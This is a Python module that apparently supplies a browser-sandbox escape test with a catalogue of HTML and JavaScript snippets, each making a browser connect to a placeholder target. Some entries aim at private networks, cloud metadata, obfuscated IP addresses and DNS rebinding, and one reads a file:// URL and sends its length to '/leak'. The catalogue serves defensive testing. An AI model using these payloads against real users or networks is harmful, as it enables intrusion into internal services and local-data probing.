"""Ways by which a page can make a browser connect to somewhere, each a page that points it at a target."""

from __future__ import annotations

import msgspec

MARK = "@@"


class Page(msgspec.Struct, frozen=True):
    """What the page's server answers. MARK in it stands for the target's URL."""

    html: str = ""
    status: str = "200 OK"
    fields: tuple[str, ...] = ()
    type: str = "text/html"


class Channel(msgspec.Struct, frozen=True):
    """One way. `target` is the kind of host that the canary has in it (see escape_world); `scheme` that of the target's URL.

    `seen` says how the canary sees it: "connection", "dns" (the name is asked for), "place" (where the tab ended).
    """

    id: str
    page: Page
    target: str = "loop"
    scheme: str = "http"
    seen: str = "connection"
    host: str = "page"
    secure: bool = False


def _html(id: str, html: str, **more: str | bool) -> Channel:
    return Channel(id, Page(f"<!doctype html><meta charset=utf-8><title>x</title><body>{html}"), **more)  # type: ignore[arg-type]


def _script(id: str, source: str, **more: str | bool) -> Channel:
    return _html(id, f"<script>{source}</script>", **more)


def _redirect(status: int) -> Channel:
    return Channel(f"redirect {status}", Page(status=f"{status} Moved", fields=("Location: @@",)))


def _worker(source: str) -> str:
    return f"URL.createObjectURL(new Blob([`{source}`],{{type:'text/javascript'}}))"


_NAVIGATION = (
    *map(_redirect, (301, 302, 303, 307, 308)),
    Channel("Refresh header", Page(fields=("Refresh: 0; url=@@",))),
    _html("meta refresh", "<meta http-equiv=refresh content='0;url=@@'>"),
    _script("location.href", "location.href='@@'"),
    _script("location.replace", "location.replace('@@')"),
    _script("link clicked by script", "a=document.createElement('a');a.href='@@';document.body.append(a);a.click()"),
    _script("window.open", "onmousedown=onclick=()=>window.open('@@')"),
    _html("form GET", "<form id=f action='@@'><input name=q value=1></form><script>f.submit()</script>"),
    _html("form POST", "<form id=f action='@@' method=post><input name=q value=1></form><script>f.submit()</script>"),
    _html(
        "form to a new window", "<form id=f action='@@' target=_blank></form><script>onclick=()=>f.submit()</script>"
    ),
    _html(
        "download attribute", "<a id=a href='@@' download=x.bin>x</a><script>onclick=()=>a.click();a.click()</script>"
    ),
    _script(
        "view-source: opened", "onclick=()=>window.open('view-source:@@');location.href='view-source:@@';fetch('@@')"
    ),
    _script("javascript: URL", "location.href=`javascript:void(location.href='@@')`"),
)
_MARKUP = (
    _html("img", "<img src='@@'>"),
    _html("img srcset", "<img srcset='@@ 1x'>"),
    _html("picture", "<picture><source srcset='@@'><img></picture>"),
    _html("input type=image", "<input type=image src='@@'>"),
    _html("body background", "<table background='@@'><tr><td>x</table>"),
    _html("svg image", "<svg><image href='@@' width=9 height=9 /></svg>"),
    _html("svg use", "<svg><use href='@@#x' /></svg><img src='@@'>"),
    _html("script src", "<script src='@@'></script>"),
    _script("module import", "import('@@').catch(()=>0)"),
    _html("stylesheet", "<link rel=stylesheet href='@@'>"),
    _html("CSS @import", "<style>@import url('@@');</style>"),
    _html("CSS url()", "<style>body{background:url('@@')}</style>"),
    _html("CSS image-set", "<style>body{background:image-set('@@' 1x)}</style>"),
    _html("CSS font", "<style>@font-face{font-family:f;src:url('@@')}p{font-family:f}</style><p>x"),
    _html("CSS cursor", "<style>body{cursor:url('@@'),auto;height:500px}</style>"),
    _html("iframe", "<iframe src='@@'></iframe>"),
    _html("iframe srcdoc", '<iframe srcdoc="<img src=@@>"></iframe>'),
    _html("iframe data:", '<iframe src="data:text/html,<img src=@@>"></iframe>'),
    _html("sandboxed iframe", "<iframe sandbox='allow-scripts' src='@@'></iframe>"),
    _html("object", "<object data='@@'></object>"),
    _html("embed", "<embed src='@@'>"),
    _html("video", "<video src='@@' autoplay muted></video>"),
    _html("audio", "<audio src='@@' autoplay muted></audio>"),
    _html("track", "<video muted><track default kind=subtitles src='@@'></video><script>document.querySelector('track').track.mode='showing'</script>"),
    _html("favicon", "<link rel=icon href='@@'>"),
    _html("manifest", "<link rel=manifest href='@@'>"),
    _html("base href", "<base href='@@/'><img src='x.png'>"),
    Channel("frameset", Page("<frameset cols='*,*'><frame src='@@'><frame src='@@'></frameset>")),
    _html("preload", "<link rel=preload as=image href='@@'>"),
    _html("modulepreload", "<link rel=modulepreload href='@@'>"),
    Channel("Link header preload", Page("<p>x", fields=("Link: <@@>; rel=preload; as=image",))),
    _html("prefetch", "<link rel=prefetch href='@@'>"),
    _html("prerender link", "<link rel=prerender href='@@'>"),
    _html("preconnect", "<link rel=preconnect href='@@'>"),
    _html("dns-prefetch", "<link rel=dns-prefetch href='@@'>", target="dns", seen="dns"),
    Channel("DNS prefetch control", Page("<a href='@@'>x</a>", fields=("X-DNS-Prefetch-Control: on",)), "dns", seen="dns"),
    _html("speculation rules prefetch", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"@@\"],\"eagerness\":\"immediate\"}]}</script>", secure=True),
    _html("speculation rules prerender", "<script type=speculationrules>{\"prerender\":[{\"urls\":[\"@@\"],\"eagerness\":\"immediate\"}]}</script>", secure=True),
    Channel("CSP report-uri", Page("<img src='/blocked.png'>", fields=("Content-Security-Policy: img-src 'none'; report-uri @@",))),
    Channel("Reporting-Endpoints", Page("<img src='/blocked.png'>", fields=('Reporting-Endpoints: r="@@"', "Content-Security-Policy: img-src 'none'; report-to r")), secure=True),
    _html("ping attribute", "<a id=a ping='@@' href='#x'>x</a><script>a.click()</script>"),
)  # fmt: skip
_SCRIPTS = (
    _script("fetch", "fetch('@@').catch(()=>0)"),
    _script("fetch no-cors", "fetch('@@',{mode:'no-cors'}).catch(()=>0)"),
    _script("fetch POST", "fetch('@@',{method:'POST',mode:'no-cors',body:'x'}).catch(()=>0)"),
    _script("fetch keepalive", "fetch('@@',{keepalive:true,mode:'no-cors'}).catch(()=>0);location.href='about:blank'"),
    _script("fetch private network", "fetch('@@',{mode:'no-cors',targetAddressSpace:'loopback'}).catch(()=>0);fetch('@@',{mode:'no-cors',targetAddressSpace:'local'}).catch(()=>0)"),
    _script("XHR", "x=new XMLHttpRequest();x.open('GET','@@');x.send()"),
    _script("XHR, synchronous", "x=new XMLHttpRequest();x.open('GET','@@',false);try{x.send()}catch(e){}"),
    _script("sendBeacon", "navigator.sendBeacon('@@','x')"),
    _script("sendBeacon at the end", "addEventListener('pagehide',()=>navigator.sendBeacon('@@','x'));setTimeout(()=>location.href='about:blank',200)"),
    _script("EventSource", "new EventSource('@@')"),
    _script("WebSocket", "new WebSocket('@@')", scheme="ws"),
    _script("WebSocket, TLS", "new WebSocket('@@')", scheme="wss"),
    _script("https", "fetch('@@',{mode:'no-cors'}).catch(()=>0)", scheme="https"),
    _script("WebTransport", "try{new WebTransport('@@').ready.catch(()=>0)}catch(e){}", scheme="https", secure=True, target="udp"),
    _script("Worker fetch", f"new Worker({_worker('fetch(`@@`,{mode:`no-cors`}).catch(()=>0)'.replace('`', chr(34)))})"),
    _script("Worker importScripts", f"new Worker({_worker('try{importScripts(`@@`)}catch(e){}'.replace('`', chr(34)))})"),
    _script("SharedWorker", f"new SharedWorker({_worker('fetch(`@@`,{mode:`no-cors`}).catch(()=>0)'.replace('`', chr(34)))})"),
    _script("ServiceWorker", "navigator.serviceWorker.register('/sw.js?to='+encodeURIComponent('@@'))", secure=True),
    _script("AudioWorklet", "new AudioContext().audioWorklet.addModule('@@').catch(()=>0)", secure=True),
    _script("CSS paint worklet", "CSS.paintWorklet.addModule('@@').catch(()=>0)", secure=True),
    _script("WebAssembly streaming", "WebAssembly.compileStreaming(fetch('@@')).catch(()=>0)"),
    _script("blob: iframe", "i=document.createElement('iframe');i.src=URL.createObjectURL(new Blob(['<img src=@@>'],{type:'text/html'}));document.body.append(i)"),
    _script("document.write", "document.write('<img src=@@>')"),
    _script("XSL and import map", "s=document.createElement('script');s.type='importmap';s.textContent='{\"imports\":{\"x\":\"@@\"}}';document.head.append(s);import('x').catch(()=>0)"),
    _script("WebRTC, STUN", "p=new RTCPeerConnection({iceServers:[{urls:'@@'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))", scheme="stun"),
    _script("WebRTC, TURN by UDP", "p=new RTCPeerConnection({iceServers:[{urls:'@@',username:'u',credential:'c'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))", scheme="turn"),
    _script("WebRTC, TURN by TCP", "p=new RTCPeerConnection({iceServers:[{urls:'@@?transport=tcp',username:'u',credential:'c'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))", scheme="turntcp"),
    _script("WebRTC, name of a STUN server", "p=new RTCPeerConnection({iceServers:[{urls:'@@'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))", scheme="stun", target="dns", seen="dns"),
    _script("Payment manifest", "onclick=()=>new PaymentRequest([{supportedMethods:'@@'}],{total:{label:'x',amount:{currency:'JPY',value:'1'}}}).canMakePayment().catch(()=>0);onclick()", scheme="https", secure=True),
    _script("FedCM", "navigator.credentials.get({identity:{providers:[{configURL:'@@',clientId:'1'}]}}).catch(()=>0)", scheme="https", secure=True),
    _script("redirected fetch", "fetch('/redirect?to='+encodeURIComponent('@@'),{mode:'no-cors'}).catch(()=>0)"),
    _script("redirected img", "new Image().src='/redirect?to='+encodeURIComponent('@@')"),
)  # fmt: skip
_ADDRESSES = tuple(
    _html(f"name: {words}", "<img src='@@'><iframe src='@@'></iframe><script>fetch('@@',{mode:'no-cors'}).catch(()=>0)</script>", target=kind)
    for kind, words in (
        ("priv", "private"),
        ("link", "link-local"),
        ("meta", "cloud metadata"),
        ("cgn", "carrier NAT"),
        ("zero", "0.0.0.0"),
        ("mapped", "v4-mapped"),
        ("sixtofour", "6to4"),
        ("nat64", "NAT64"),
        ("ula", "unique local v6"),
        ("site", "site-local v6"),
        ("six", "loopback v6"),
        ("mixed", "one global, one loopback"),
    )
)  # fmt: skip
_LITERALS = tuple(
    _html(f"address: {kind[1:]}", "<img src='@@'><iframe src='@@'></iframe><script>fetch('@@',{mode:'no-cors'}).catch(()=>0)</script>", target=kind)
    for kind in ("=loopback", "=private", "=link-local", "=decimal", "=hex", "=octal", "=short", "=localhost", "=v6", "=mapped", "=port 3000")
)  # fmt: skip
_REBINDING = (
    _script("rebinding, same origin", "setTimeout(()=>{fetch('/again').catch(()=>0);new Image().src='/again2'},600)", host="rebind"),
    _script("rebinding, WebSocket", "setTimeout(()=>new WebSocket('ws://'+location.host+'/x'),600)", host="rebind"),
    _script("rebinding, iframe", "setTimeout(()=>{i=document.createElement('iframe');i.src='/again';document.body.append(i)},600)", host="rebind"),
)  # fmt: skip
_PLACES = tuple(
    _script(f"{url.partition(':')[0]}: opened by the page", "onclick=()=>window.open('@@');location.href='@@';fetch('@@').then(r=>r.text()).then(t=>t&&fetch('/leak?'+t.length)).catch(()=>0)", seen="place", target=url)
    for url in ("file:///usr/lib/os-release", "chrome://version", "chrome-untrusted://new-tab-page", "devtools://devtools/bundled/inspector.html", "filesystem:http://page.test/temporary/x", "ftp://10.66.0.1/x", "ms-word:ofe|u|http://10.66.0.1/x", "smb://10.66.0.1/x")
)  # fmt: skip

CHANNELS: tuple[Channel, ...] = (
    *_NAVIGATION,
    *_MARKUP,
    *_SCRIPTS,
    *_ADDRESSES,
    *_LITERALS,
    *_REBINDING,
    *_PLACES,
)


def pointed(page: Page, to: str) -> Page:
    """The page with its target in it."""
    fields = tuple(field.replace(MARK, to) for field in page.fields)
    return Page(page.html.replace(MARK, to), page.status, fields, page.type)
